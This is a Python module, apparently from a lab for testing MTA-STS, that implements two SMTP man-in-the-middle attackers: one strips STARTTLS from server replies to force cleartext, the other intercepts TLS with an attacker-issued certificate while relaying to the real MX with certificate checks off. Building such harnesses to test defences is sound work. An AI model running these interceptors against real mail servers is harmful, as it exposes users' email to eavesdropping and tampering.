"""Men in the middle in front of a lab MX: the attacks MTA-STS exists to stop.

``strip-starttls`` relays SMTP but deletes STARTTLS from the EHLO answer (and refuses
the command), so a client that does not insist on TLS sends in clear. ``own-cert``
relays until the client says STARTTLS, then terminates TLS itself with a certificate
from the attacker's own CA and talks TLS to the real MX behind it.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import warnings

from mtasts.lab.scenario import AttackerKind

_REFUSAL = b"502 5.5.1 STARTTLS not available\r\n"


def _is_starttls_line(line: bytes) -> bool:
    return line[4:].strip().upper() == b"STARTTLS"


def strip_starttls(lines: list[bytes]) -> list[bytes]:
    """Removes the STARTTLS line from a multi-line reply, keeping its continuation marks."""
    kept = [line for line in lines if not _is_starttls_line(line)]
    if kept and kept != lines:
        kept = [line[:3] + b"-" + line[4:] for line in kept[:-1]] + [
            kept[-1][:3] + b" " + kept[-1][4:]
        ]
    return kept


async def read_reply(reader: asyncio.StreamReader) -> list[bytes]:
    """One SMTP reply: lines until one with a space after the code (RFC 5321 §4.2)."""
    lines: list[bytes] = []
    while True:
        line = await reader.readline()
        if not line:
            return lines
        lines.append(line)
        if len(line) < 4 or line[3:4] != b"-":
            return lines


class Attacker:
    """Listens at the MX's address; relays to the real MX at ``backend``."""

    def __init__(
        self,
        kind: AttackerKind,
        mx_name: str,
        backend: tuple[str, int],
        own_context: ssl.SSLContext | None = None,
    ) -> None:
        self.kind = kind
        self.mx_name = mx_name
        self.backend = backend
        self.own_context = own_context
        self.connections = 0
        self.stripped = 0  # EHLO replies that lost their STARTTLS
        self.intercepted = 0  # TLS sessions terminated with the attacker's certificate
        upstream = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        upstream.check_hostname = False
        upstream.verify_mode = ssl.CERT_NONE  # an attacker does not care
        upstream.set_ciphers("DEFAULT:@SECLEVEL=0")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            upstream.minimum_version = ssl.TLSVersion.TLSv1
        self.upstream_context = upstream

    async def handle(self, creader: asyncio.StreamReader, cwriter: asyncio.StreamWriter) -> None:
        self.connections += 1
        sreader, swriter = await asyncio.open_connection(*self.backend)
        try:
            await self._relay_lines(creader, cwriter, sreader, swriter)
        finally:
            swriter.close()

    async def _server_pump(
        self, sreader: asyncio.StreamReader, cwriter: asyncio.StreamWriter, upgrading: list[bool]
    ) -> int | None:
        """Relays replies; returns a reply's code once STARTTLS was sent, None at EOF."""
        while True:
            lines = await read_reply(sreader)
            if not lines:
                cwriter.close()
                return None
            if self.kind == "strip-starttls":
                filtered = strip_starttls(lines)
                self.stripped += filtered != lines
                lines = filtered
            cwriter.write(b"".join(lines))
            await cwriter.drain()
            if upgrading[0]:
                upgrading[0] = False
                return int(lines[-1][:3])

    async def _relay_lines(
        self,
        creader: asyncio.StreamReader,
        cwriter: asyncio.StreamWriter,
        sreader: asyncio.StreamReader,
        swriter: asyncio.StreamWriter,
    ) -> None:
        upgrading = [False]
        pump = asyncio.create_task(self._server_pump(sreader, cwriter, upgrading))
        in_data = False
        try:
            while line := await creader.readline():
                command = line.strip().upper()
                if not in_data and command == b"STARTTLS":
                    if self.kind == "strip-starttls":
                        cwriter.write(_REFUSAL)
                        continue
                    upgrading[0] = True
                    swriter.write(line)
                    if await pump == 220:
                        await self._intercept(creader, cwriter, sreader, swriter)
                        return
                    pump = asyncio.create_task(self._server_pump(sreader, cwriter, upgrading))
                    continue
                if command == b"DATA":
                    in_data = True
                elif in_data and line.rstrip(b"\r\n") == b".":
                    in_data = False
                swriter.write(line)
                await swriter.drain()
        finally:
            pump.cancel()
            with contextlib.suppress(asyncio.CancelledError, ConnectionError):
                await pump

    async def _intercept(
        self,
        creader: asyncio.StreamReader,
        cwriter: asyncio.StreamWriter,
        sreader: asyncio.StreamReader,
        swriter: asyncio.StreamWriter,
    ) -> None:
        assert self.own_context is not None
        await cwriter.start_tls(self.own_context)
        await swriter.start_tls(self.upstream_context, server_hostname=self.mx_name)
        self.intercepted += 1
        await asyncio.gather(_copy(creader, swriter), _copy(sreader, cwriter))


async def _copy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    except (ConnectionError, ssl.SSLError):
        pass
    finally:
        writer.close()
